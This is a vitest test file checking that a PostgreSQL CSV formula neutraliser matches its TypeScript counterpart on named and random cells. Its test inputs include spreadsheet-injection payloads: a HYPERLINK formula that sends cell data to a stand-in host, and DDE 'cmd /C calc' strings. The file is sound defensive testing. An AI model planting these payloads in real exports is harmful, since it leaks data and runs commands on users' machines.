/**
 * The console exports' formula neutraliser in SQL (public.console_csv_text, run inside the COPY
 * that writes the files) against the one rule, src/lib/server/csv/formula.ts with
 * readableNumbers: equal on every case the rule's own tests name, on numerics (prices), and on
 * thousands of random cells built from the characters the rule looks at.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '@sms/db/testing';
import { neutraliseFormula } from '../../src/lib/server/csv/formula.ts';

let t: TestDatabase;
beforeAll(async () => {
	t = await createTestDatabase();
});
afterAll(async () => {
	await t?.close();
});

const rule = (v: string) => neutraliseFormula(v, { readableNumbers: true });

/** A seeded generator (mulberry32), so a failure replays. */
function rng(seed: number) {
	let a = seed;
	return () => {
		a = (a + 0x6d2b79f5) | 0;
		let x = Math.imul(a ^ (a >>> 15), 1 | a);
		x = (x + Math.imul(x ^ (x >>> 7), 61 | x)) ^ x;
		return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
	};
}

const NAMED = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+SUM(A1:A9)', '-2+3+cmd|\' /C calc\'!A0',
	'=1+1', '\t=1+1', '\r=1+1', '+1 415 555 0123 =HYPERLINK("x")', '+1 415 CALL ME', '-', '+', '\uFF1DHYPERLINK("x")', '\uFF0B1 415 555 0123',
	'\uFF0D1', '\uFF20SUM(A1)', '+14155550123', '+1 415 555 0123', '+1 (415) 555-0123', '+44 7700 900123', '-0.00790', '+5', '-1', '42',
	'John Smith', ' =not first', '', "'already", 'contact.create', '+1 415 555 0123\n', '-1\n', '+1.', '-.5', '+١٤١٥', '-٣', '=\n1', '@',
	'+1-', '+(1)', '+12', '+1 2', '-00', '1-2', '\n=1', 'é=1'
];
const ALPHABET = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '0', '1', '9', '.', ' ', '(', ')', 'a', 'Z', ',', '"', "'", '١', 'é', '😀'];

describe('public.console_csv_text (text) = formula.ts, readableNumbers', () => {
	it('on every named case and 5,000 random cells', async () => {
		const r = rng(2026);
		const random = Array.from({ length: 5000 }, () => Array.from({ length: 1 + Math.floor(r() * 8) }, () => ALPHABET[Math.floor(r() * ALPHABET.length)]).join(''));
		const inputs = [...NAMED, ...random];
		const rows = await t.sql<{ v: string; out: string }[]>`select v, public.console_csv_text(v) as out from unnest(${inputs}::text[]) v`;
		const mismatches = rows.filter((row) => row.out !== rule(row.v));
		expect(mismatches).toEqual([]);
		// Not vacuous: both kinds of answer occur, on named and random cells.
		expect(rows.filter((row) => row.out !== row.v).length).toBeGreaterThan(100);
		expect(rows.filter((row) => row.out === row.v && /^[+-]/.test(row.v)).length).toBeGreaterThan(10);
		const [{ none }] = await t.sql<{ none: string | null }[]>`select public.console_csv_text(null::text) as none`;
		expect(none).toBeNull();
	});
});

describe('public.console_csv_text (numeric) = formula.ts on its text', () => {
	it('on prices, zero, extremes, NaN and the infinities', async () => {
		const inputs = ['-0.00790', '0', '-0', '12.5', '-12.50', '1e-20', '-123456789012345678901234567890.5', 'NaN', 'Infinity', '-Infinity'];
		const rows = await t.sql<{ text: string; out: string }[]>`select v::text as text, public.console_csv_text(v) as out from unnest(${inputs}::numeric[]) v`;
		expect(rows.map((row) => row.out)).toEqual(rows.map((row) => rule(row.text)));
		expect(rows.find((row) => row.text === '-Infinity')?.out).toBe("'-Infinity");
	});

	it('is inlined by the planner (no function call per cell)', async () => {
		const [plan] = await t.sql<{ 'QUERY PLAN': unknown }[]>`explain (verbose, format json) select public.console_csv_text(m.message_content), public.console_csv_text(m.price) from public.sms_messages m`;
		expect(JSON.stringify(plan)).not.toContain('console_csv_text');
	});
});
